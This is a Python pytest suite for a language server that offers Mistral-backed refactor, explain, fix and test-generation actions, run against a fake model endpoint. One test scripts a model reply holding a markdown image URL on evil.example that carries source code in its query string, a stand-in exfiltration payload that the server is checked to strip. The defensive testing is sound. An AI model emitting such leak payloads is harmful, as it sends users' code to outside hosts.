"""Refactors through the real server over stdio, answered by the fake Mistral endpoint."""

from __future__ import annotations

import asyncio
from pathlib import Path
from typing import Any

import pytest
from lsprotocol import types
from pygls.exceptions import JsonRpcException

from fixtures.fake_mistral import FakeMistral, Reply
from tests.lsp_harness import open_document, wait_until
from tests.refactor_helpers import (
    SAMPLE,
    apply_text_edits,
    by_title,
    chat_prompt,
    code_actions,
    did_change,
    edits_for,
    find_line,
    line_range,
    plain_messages,
    progress_titled,
    start,
    write_sample,
)

KINDS = {"refactor.rewrite.mistral", "quickfix.mistral", "source.mistral"}
TOTAL_LINE = find_line(SAMPLE, "def total")
RETURN_LINE = find_line(SAMPLE, "return result * (1 + TAX)")
TOTAL_RANGE = line_range(SAMPLE, TOTAL_LINE, RETURN_LINE)
TYPED_TOTAL = (
    "def total(prices: list[float]) -> float:\n"
    "    result = 0\n"
    "    for p in prices:\n"
    "        result = result + p\n"
    "    return result * (1 + TAX)\n"
)


def execute(client: Any, command: str, *args: Any, token: str | None = None) -> Any:
    params = types.ExecuteCommandParams(
        command=command, arguments=list(args), work_done_token=token
    )
    return client.workspace_execute_command_async(params)


def range_json(rng: types.Range) -> dict[str, Any]:
    return {
        "start": {"line": rng.start.line, "character": rng.start.character},
        "end": {"line": rng.end.line, "character": rng.end.character},
    }


# -- listing -----------------------------------------------------------------------------


@pytest.mark.parametrize("profile", ["neovim", "visual_studio_code"])
async def test_actions_are_listed_instantly_and_filtered_by_only(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral, profile: str
) -> None:
    client = await start(launch, workspace, env, fake, profile, privacy={"exclude": ["secret/**"]})
    uri = open_document(client, write_sample(workspace))
    diagnostic = types.Diagnostic(
        range=line_range(SAMPLE, RETURN_LINE, RETURN_LINE),
        message="Unsupported operand types for * (list and float)",
        code="operator",
        source="mypy",
    )
    actions = await code_actions(client, uri, TOTAL_RANGE, diagnostics=[diagnostic])
    titles = [a.title for a in actions]
    assert {a.kind for a in actions} == KINDS
    for expected in (
        "Mistral: Refactor selection…",
        "Mistral: Add docstring",
        "Mistral: Add type annotations",
        "Mistral: Simplify",
        "Mistral: Explain",
        "Mistral: Generate tests",
        "Mistral: Fix: Unsupported operand types",
    ):
        assert any(t.startswith(expected) for t in titles), (expected, titles)
    fix = by_title(actions, "Mistral: Fix")
    assert fix.kind == "quickfix.mistral" and list(fix.diagnostics or []) == [diagnostic]

    quick = await code_actions(client, uri, TOTAL_RANGE, ["quickfix"], [diagnostic])
    assert [a.kind for a in quick] == ["quickfix.mistral"]
    source = await code_actions(client, uri, TOTAL_RANGE, ["source"])
    assert {a.title for a in source} == {"Mistral: Explain", "Mistral: Generate tests"}
    rewrite = await code_actions(client, uri, TOTAL_RANGE, ["refactor.rewrite"])
    assert {a.kind for a in rewrite} == {"refactor.rewrite.mistral"} and len(rewrite) == 4
    assert await code_actions(client, uri, TOTAL_RANGE, ["refactor.extract"]) == []
    assert fake.requests_for("chat") == []  # listing never asks the model
    # An automatic request at a bare caret (VS Code, on cursor moves) gets only the fixes.
    caret = types.Range(TOTAL_RANGE.start, TOTAL_RANGE.start)
    automatic = types.CodeActionTriggerKind.Automatic
    assert await code_actions(client, uri, caret, trigger=automatic) == []
    fixes = await code_actions(client, uri, caret, None, [diagnostic], automatic)
    assert [a.kind for a in fixes] == ["quickfix.mistral"]
    invoked = types.CodeActionTriggerKind.Invoked
    assert len(await code_actions(client, uri, caret, trigger=invoked)) == 6
    # Excluded files get no Mistral actions at all.
    secret = open_document(client, write_sample(workspace, "secret/keys.py"))
    assert await code_actions(client, secret, TOTAL_RANGE) == []


async def test_clients_without_code_action_literals_get_commands(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "neovim-noliterals")
    uri = open_document(client, write_sample(workspace))
    params = types.CodeActionParams(
        text_document=types.TextDocumentIdentifier(uri=uri),
        range=TOTAL_RANGE,
        context=types.CodeActionContext(diagnostics=[]),
    )
    result = await client.text_document_code_action_async(params)
    assert result and all(isinstance(c, types.Command) for c in result)
    commands = {c.title: c.command for c in result}
    assert commands["Mistral: Add docstring"] == "mistral.applyAction"
    assert commands["Mistral: Refactor selection…"] == "mistral.refactor"
    assert commands["Mistral: Explain"] == "mistral.explain"


# -- resolve-capable and resolve-less clients -------------------------------------------


async def test_vscode_resolves_a_minimal_versioned_edit_from_an_answer_wrapped_in_prose(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    uri = open_document(client, write_sample(workspace))
    answer = f"Here is the annotated function:\n\n```python\n{TYPED_TOTAL}```\n\nHope it helps!"
    fake.script("chat", Reply(text=answer, chunks=5))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Add type")
    assert action.edit is None and action.command is None and action.data is not None

    resolved = await client.code_action_resolve_async(action)
    assert resolved.edit is not None and resolved.edit.document_changes
    change = resolved.edit.document_changes[0]
    assert isinstance(change, types.TextDocumentEdit) and change.text_document.version == 1
    # Minimal: only the signature line changes, not the whole range.
    assert len(change.edits) == 1
    assert change.edits[0].range.start.line == TOTAL_LINE
    assert change.edits[0].range.end.line == TOTAL_LINE + 1
    after = apply_text_edits(SAMPLE, change.edits)
    assert "def total(prices: list[float]) -> float:\n" in after
    assert after.replace("def total(prices: list[float]) -> float:", "def total(prices):") == SAMPLE
    prompt = chat_prompt(fake)
    assert "cart.py" in prompt and "python" in prompt and "def total(prices):" in prompt
    assert "fenced code block" in prompt
    assert not client.applied  # type: ignore[attr-defined]  # resolve returns, never applies


@pytest.mark.parametrize("profile", ["neovim-noresolve", "emacs"])
async def test_resolve_less_clients_get_a_command_that_applies_the_edit(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral, profile: str
) -> None:
    client = await start(launch, workspace, env, fake, profile)
    uri = open_document(client, write_sample(workspace))
    fake.script("chat", Reply(text=f"```python\n{TYPED_TOTAL}```", chunks=4, delay_s=0.05))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Add type")
    assert action.command is not None and action.command.command == "mistral.applyAction"

    result = await execute(client, action.command.command, *(action.command.arguments or []))
    assert result["applied"] is True
    applied = client.applied  # type: ignore[attr-defined]
    assert len(applied) == 1
    after = apply_text_edits(SAMPLE, edits_for(applied[0].edit, uri))
    assert "def total(prices: list[float]) -> float:\n" in after
    # Progress: begun, streamed partial text, ended.
    reports = progress_titled(client, "Mistral: refactoring…")
    assert isinstance(reports[0], types.WorkDoneProgressBegin) and reports[0].cancellable
    assert any(isinstance(r, types.WorkDoneProgressReport) for r in reports)
    assert isinstance(reports[-1], types.WorkDoneProgressEnd)


async def test_refactor_command_carries_the_instruction_and_the_client_token(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "neovim")
    uri = open_document(client, write_sample(workspace))
    simpler = "def total(prices):\n    return sum(prices) * (1 + TAX)\n"
    fake.script("chat", Reply(text=f"```python\n{simpler}```"))
    client.progress_reports["client-token"] = []
    args = {"uri": uri, "range": range_json(TOTAL_RANGE), "instruction": "use sum()"}
    result = await execute(client, "mistral.refactor", args, token="client-token")
    assert result["applied"] is True
    assert "use sum()" in chat_prompt(fake)
    assert client.progress_reports["client-token"], "the client's token carries the progress"
    after = apply_text_edits(SAMPLE, edits_for(client.applied[0].edit, uri))  # type: ignore[attr-defined]
    assert simpler in after and "class Cart:" in after


# -- validation --------------------------------------------------------------------------


async def test_a_syntax_error_is_retried_once_then_refused_with_the_buffer_untouched(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "neovim-noresolve")
    uri = open_document(client, write_sample(workspace))
    broken = "def total(prices:\n    return sum(prices\n"
    fake.script(
        "chat", Reply(text=f"```python\n{broken}```"), Reply(text=f"```python\n{broken}```")
    )
    args = {"uri": uri, "range": range_json(TOTAL_RANGE), "instruction": "shorter"}
    with pytest.raises(JsonRpcException, match="refused"):
        await execute(client, "mistral.refactor", args)
    assert len(fake.requests_for("chat")) == 2
    retry = fake.requests_for("chat")[1].body["messages"]
    assert retry[-2]["role"] == "assistant" and "syntax error" in retry[-1]["content"]
    assert "line " in retry[-1]["content"]
    assert not client.applied  # type: ignore[attr-defined]
    assert any("nothing was changed" in m for m in plain_messages(client))
    text = await execute(client, "mistral.debug.documentText", uri)
    assert text["text"] == SAMPLE


async def test_a_code_less_answer_is_refused_and_a_retry_can_succeed(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    uri = open_document(client, write_sample(workspace))
    fake.script("chat", Reply(text="I'd rather not."), Reply(text="Still no."))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Simplify")
    with pytest.raises(JsonRpcException, match="no fenced code block"):
        await client.code_action_resolve_async(action)

    fake.clear()
    fake.script(
        "chat",
        Reply(text="```python\ndef total(prices) -> float\n    return 1\n```"),
        Reply(text=f"Fixed, sorry:\n```python\n{TYPED_TOTAL}```"),
    )
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Add type")
    resolved = await client.code_action_resolve_async(action)
    assert resolved.edit is not None
    assert len(fake.requests_for("chat")) == 2


# -- races, cancellation, limits ----------------------------------------------------------


async def test_an_edit_arriving_after_the_user_typed_is_not_applied(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "neovim-noresolve")
    uri = open_document(client, write_sample(workspace))
    fake.script("chat", Reply(text=f"```python\n{TYPED_TOTAL}```", latency_s=1.0))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Add type")
    assert action.command is not None
    pending = asyncio.ensure_future(
        execute(client, action.command.command, *(action.command.arguments or []))
    )
    assert await wait_until(lambda: len(fake.requests_for("chat")) == 1)
    typed = SAMPLE.replace("TAX = 0.2", "TAX = 0.25")
    did_change(client, uri, 2, typed)
    with pytest.raises(JsonRpcException, match="changed while Mistral was working"):
        await pending
    assert not client.applied  # type: ignore[attr-defined]
    assert any("nothing was applied" in m for m in plain_messages(client))
    text = await execute(client, "mistral.debug.documentText", uri)
    assert text["text"] == typed


async def test_cancelling_the_progress_closes_the_stream(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "neovim-noresolve")
    uri = open_document(client, write_sample(workspace))
    fake.script("chat", Reply(text=f"```python\n{TYPED_TOTAL}```", chunks=40, delay_s=0.1))
    client.progress_reports["tok"] = []
    args = {"uri": uri, "range": range_json(TOTAL_RANGE), "instruction": "types"}
    pending = asyncio.ensure_future(execute(client, "mistral.refactor", args, token="tok"))
    reports = client.progress_reports["tok"]
    assert await wait_until(
        lambda: any(isinstance(r, types.WorkDoneProgressReport) for r in reports)
    )
    client.window_work_done_progress_cancel(types.WorkDoneProgressCancelParams(token="tok"))
    with pytest.raises(JsonRpcException, match="Cancelled"):
        await asyncio.wait_for(pending, 10)
    assert fake.wait_for(lambda: fake.closed_streams == 1)
    assert not client.applied  # type: ignore[attr-defined]
    assert isinstance(reports[-1], types.WorkDoneProgressEnd)

    # $/cancelRequest of the executeCommand request closes the stream too.
    fake.script("chat", Reply(text=f"```python\n{TYPED_TOTAL}```", chunks=40, delay_s=0.1))
    params = types.ExecuteCommandParams(command="mistral.refactor", arguments=[args])
    request = client.protocol.send_request_async(
        types.WORKSPACE_EXECUTE_COMMAND, params, msg_id="refactor-2"
    )
    pending = asyncio.ensure_future(request)
    assert await wait_until(lambda: len(fake.requests_for("chat")) == 2)
    await asyncio.sleep(0.3)
    client.protocol.notify(types.CANCEL_REQUEST, types.CancelParams(id="refactor-2"))
    with pytest.raises(JsonRpcException, match="cancel"):
        await asyncio.wait_for(pending, 10)
    assert fake.wait_for(lambda: fake.closed_streams == 2)
    assert not client.applied  # type: ignore[attr-defined]


async def test_cancelling_a_resolve_request_closes_the_stream(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    uri = open_document(client, write_sample(workspace))
    fake.script("chat", Reply(text=f"```python\n{TYPED_TOTAL}```", chunks=40, delay_s=0.1))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Add type")
    request = client.protocol.send_request_async(
        types.CODE_ACTION_RESOLVE, action, msg_id="resolve-1"
    )
    pending = asyncio.ensure_future(request)
    assert await wait_until(lambda: len(fake.requests_for("chat")) == 1)
    await asyncio.sleep(0.3)
    client.protocol.notify(types.CANCEL_REQUEST, types.CancelParams(id="resolve-1"))
    with pytest.raises(JsonRpcException, match="cancel"):
        await asyncio.wait_for(pending, 10)
    assert fake.wait_for(lambda: fake.closed_streams == 1)


async def test_a_selection_larger_than_the_budget_is_a_clear_error(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(
        launch, workspace, env, fake, "neovim-noresolve", refactor={"maxTokens": 16}
    )
    uri = open_document(client, write_sample(workspace))
    args = {"uri": uri, "range": range_json(TOTAL_RANGE), "instruction": "anything"}
    with pytest.raises(JsonRpcException, match="refactor.max_tokens"):
        await execute(client, "mistral.refactor", args)
    assert fake.requests_for("chat") == []
    assert any("Select less" in m for m in plain_messages(client))


# -- explain, fix, tests -----------------------------------------------------------------


async def test_explain_returns_markdown_without_remote_images_or_links(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    uri = open_document(client, write_sample(workspace))
    answer = (
        "`total` sums the prices and adds tax.\n\n"
        "![diagram](https://evil.example/leak.png?code=def%20total)\n"
        "See [the tax rules](https://evil.example/rules).\n"
    )
    fake.script("chat", Reply(text=answer))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Explain")
    assert action.command is not None and action.command.command == "mistral.explain"
    markdown = await execute(client, "mistral.explain", *(action.command.arguments or []))
    assert "sums the prices" in markdown and "the tax rules" in markdown
    assert "evil.example" not in markdown and "![" not in markdown
    assert not client.applied  # type: ignore[attr-defined]


async def test_fix_puts_the_diagnostic_in_the_prompt(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    uri = open_document(client, write_sample(workspace))
    diagnostic = types.Diagnostic(
        range=types.Range(types.Position(RETURN_LINE, 11), types.Position(RETURN_LINE, 17)),
        message="result may be a str",
        code="E999",
        source="typecheck",
    )
    fake.script("chat", Reply(text=f"```python\n{TYPED_TOTAL}```"))
    actions = await code_actions(client, uri, diagnostic.range, ["quickfix"], [diagnostic])
    resolved = await client.code_action_resolve_async(actions[0])
    assert resolved.edit is not None
    prompt = chat_prompt(fake)
    assert "result may be a str" in prompt and "E999" in prompt and "typecheck" in prompt
    # The fix worked on the enclosing function, not just the diagnostic's characters: the
    # answer (the whole function) replaced the function, not the word `result`.
    assert "def total(prices):" in prompt
    after = apply_text_edits(SAMPLE, edits_for(resolved.edit, uri))
    assert after == SAMPLE.replace("def total(prices):", "def total(prices: list[float]) -> float:")


async def test_generate_tests_creates_the_file_when_the_client_can(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    (workspace / "tests").mkdir()
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    uri = open_document(client, write_sample(workspace))
    tests = "from cart import total\n\n\ndef test_total():\n    assert total([1.0]) == 1.2\n"
    fake.script("chat", Reply(text=f"```python\n{tests}```"))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Generate tests")
    resolved = await client.code_action_resolve_async(action)
    assert resolved.edit is not None and resolved.edit.document_changes
    create, fill = resolved.edit.document_changes
    target = (workspace / "tests" / "test_cart.py").as_uri()
    assert isinstance(create, types.CreateFile) and create.uri == target
    assert isinstance(fill, types.TextDocumentEdit) and fill.text_document.uri == target
    assert fill.edits[0].new_text == tests
    assert "tests/test_cart.py" in chat_prompt(fake)
    # VS Code applies a resolved edit itself, then runs the action's command: it opens the file.
    assert resolved.command is not None and resolved.command.command == "mistral.showFile"
    await execute(client, resolved.command.command, *(resolved.command.arguments or []))
    assert [p.uri for p in client.shown_documents] == [target]


async def test_generate_tests_extends_an_existing_file_and_never_creates_without_support(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "emacs")
    uri = open_document(client, write_sample(workspace))
    action = by_title(await code_actions(client, uri, TOTAL_RANGE), "Mistral: Generate tests")
    assert action.command is not None
    fake.script("chat", Reply(text="```python\ndef test_x():\n    assert True\n```"))
    with pytest.raises(JsonRpcException, match="cannot create files"):
        await execute(client, action.command.command, *(action.command.arguments or []))
    assert not client.applied  # type: ignore[attr-defined]

    existing = workspace / "test_cart.py"
    existing.write_text("import cart\n\n\ndef test_old():\n    assert cart.TAX\n")
    # The model echoes the whole file with the new test at the end: only the new one is added.
    whole = existing.read_text() + "\n\ndef test_new():\n    assert cart.total([]) == 0\n"
    fake.script("chat", Reply(text=f"```python\n{whole}```"))
    result = await execute(client, action.command.command, *(action.command.arguments or []))
    assert result["applied"] is True
    edit = client.applied[0].edit  # type: ignore[attr-defined]
    assert not any(isinstance(c, types.CreateFile) for c in edit.document_changes or [])
    after = apply_text_edits(existing.read_text(), edits_for(edit, existing.as_uri()))
    assert after.startswith("import cart\n\n\ndef test_old():")
    assert after.endswith("def test_new():\n    assert cart.total([]) == 0\n")
    assert after.count("def test_old") == 1
    assert "def test_old" in chat_prompt(fake)


async def test_secrets_are_redacted_on_the_way_out_and_restored_in_the_edit(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    key = "AKIAIOSFODNN7EXAMPLE"
    text = f'def client():\n    key = "{key}"\n    return connect(key)\n'
    uri = open_document(client, write_sample(workspace, "aws.py", text))

    def echo(body: dict[str, Any]) -> str:
        sent = "\n".join(m["content"] for m in body["messages"])
        placeholder = sent[sent.index("[REDACTED:") :].split("]")[0] + "]"
        return (
            '```python\ndef client() -> "Client":\n'
            f'    key = "{placeholder}"\n    return connect(key)\n```'
        )

    fake.chat_responder = echo
    action = by_title(await code_actions(client, uri, line_range(text, 0, 2)), "Mistral: Add type")
    resolved = await client.code_action_resolve_async(action)
    assert key.encode() not in fake.all_bytes()
    assert resolved.edit is not None
    after = apply_text_edits(text, edits_for(resolved.edit, uri))
    assert after == text.replace("def client():", 'def client() -> "Client":')


async def test_a_selection_inside_a_line_after_an_emoji_gets_utf16_positions(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "visual_studio_code")
    text = 'def label(name):\n    return "🛒 " + name + "!"\n'
    uri = open_document(client, write_sample(workspace, "label.py", text))
    column = text.split("\n")[1].index("name")  # in code points
    selection = types.Range(types.Position(1, column + 1), types.Position(1, column + 5))
    fake.script("chat", Reply(text="Use upper:\n```python\nname.upper()\n```"))
    action = by_title(await code_actions(client, uri, selection), "Mistral: Simplify")
    resolved = await client.code_action_resolve_async(action)
    assert resolved.edit is not None and resolved.edit.document_changes
    change = resolved.edit.document_changes[0]
    assert isinstance(change, types.TextDocumentEdit)
    (edit,) = change.edits
    # The emoji is two UTF-16 code units: the edit starts one unit after its code-point column.
    assert edit.range == selection and edit.new_text == "name.upper()"
    assert "name" in chat_prompt(fake)


async def test_an_answer_repeating_context_lines_is_reconciled_not_pasted(
    launch: Any, workspace: Path, env: dict[str, str], fake: FakeMistral
) -> None:
    client = await start(launch, workspace, env, fake, "neovim-noresolve")
    uri = open_document(client, write_sample(workspace))
    first, last = find_line(SAMPLE, "for p in prices:"), find_line(SAMPLE, "result = result + p")
    loop = "    for p in prices:\n        result = result + p\n"
    summed = "    for p in prices:\n        result = result + round(p, 2)\n"
    # The model copies the line before and the line after the selection into its answer.
    answer = f"    result = 0\n{summed}    return result * (1 + TAX)\n"
    fake.script("chat", Reply(text=f"Here you go:\n```python\n{answer}```"))
    args = {
        "uri": uri,
        "range": range_json(line_range(SAMPLE, first, last)),
        "instruction": "round",
    }
    result = await execute(client, "mistral.refactor", args)
    assert result["applied"] is True
    after = apply_text_edits(SAMPLE, edits_for(client.applied[0].edit, uri))  # type: ignore[attr-defined]
    assert after == SAMPLE.replace(loop, summed)
    assert after.count("result = 0") == 1 and after.count("return result") == 1
    # Control: pasting the answer over the selection, as before, duplicates the context.
    pasted = SAMPLE.replace(loop, answer)
    assert pasted.count("result = 0") == 2 and pasted.count("return result") == 2
